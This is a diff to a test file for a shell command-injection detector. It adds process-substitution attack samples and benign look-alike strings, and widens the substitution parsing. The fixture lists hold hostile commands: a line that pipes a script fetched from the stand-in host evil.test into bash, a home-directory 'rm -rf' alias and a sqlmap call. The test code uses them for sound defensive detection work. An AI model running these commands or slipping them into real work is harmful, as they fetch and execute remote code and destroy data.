@@ -122,6 +122,8 @@ COMMAND_INJECTION = [
     "sqlmap -u http://victim.test/?id=1",
     "alias ls='rm -rf ~'",
     ":set shell=/bin/sh \\!whoami",
+    "bash <(curl -s http://evil.test/i.sh)",  # process substitution: no "$", no backtick
+    "wc -l <(ls /root)",
 ]
 BENIGN = [
     "O'Brien",
@@ -174,6 +176,8 @@ BENIGN = [
     "34 -- 85",  # arithmetic
     "I 'like' it",
     "Meet at the cafe; at 10:30 sharp",
+    "I am mad >(who cares)",  # an angry face, not a process substitution
+    "love you <(3",
 ]
 
 
@@ -425,7 +429,8 @@ _SHELLISH = st.sampled_from(
 
 _GATE_ATOMS = _SHELLISH | st.sampled_from(
     ["ll", "lls", "_ls", "ls.", "-id", "\t", "@", "$a+", "${b}", "$9", "$*", "$()", "\u00b2", "_",
-     ".", "-", "\x0b", "$", "{$", "+cat", "(@{", "\\^w", "$ab$c ", "$abcat", "+whoami", "+strace ", "$a+whoami"]
+     ".", "-", "\x0b", "$", "{$", "+cat", "(@{", "\\^w", "$ab$c ", "$abcat", "+whoami", "+strace ",
+     "$a+whoami"]
 ) | st.sampled_from(sorted(_SHELL_COMMAND_NAMES))  # fmt: skip
 
 
@@ -1012,7 +1017,7 @@ _SUBSTITUTION_ATOMS = st.sampled_from(
             "-",
         ),
         *("c:\\windows\\", "1", "/", "a", "$('cat)", "`'ls`", '$("who")', "$(^id)", "`\\w`"),
-        *("$(c$@at)", "$(${ifs}ls)", "`/bin/ls`", "$(usr/bin/id)", "$('x)"),
+        *("$(c$@at)", "$(${ifs}ls)", "`/bin/ls`", "$(usr/bin/id)", "$('x)", "<(", ">(", "$(<"),
     ]
 )
 
@@ -1025,7 +1030,7 @@ def test_a_substituted_command_is_never_missed_by_the_batch_check(low: str) -> N
 
     found = False
     for sub in _shell._SUBSTITUTION.finditer(low):
-        body = _shell._normalise(sub.group().lstrip("$(`{ "))
+        body = _shell._normalise(sub.group().lstrip("$(`{< "))
         name = _shell._SUBSTITUTED_NAME.match(body)
         if name is not None and (
             name.group() in _shell._COMMANDS or _shell._PATH_COMMAND.match(body)
@@ -1048,7 +1053,7 @@ def test_the_substitution_check_finds_what_the_loop_over_each_found(low: str) ->
     subs = list(_shell._SUBSTITUTION.finditer(low))
     expected = False
     for sub in subs:  # the loop as it was
-        body = _shell._normalise(sub.group().lstrip("$(`{ "))
+        body = _shell._normalise(sub.group().lstrip("$(`{< "))
         name = _shell._SUBSTITUTED_NAME.match(body)
         if name is None or (
             name.group() not in _shell._COMMANDS and not _shell._PATH_COMMAND.match(body)
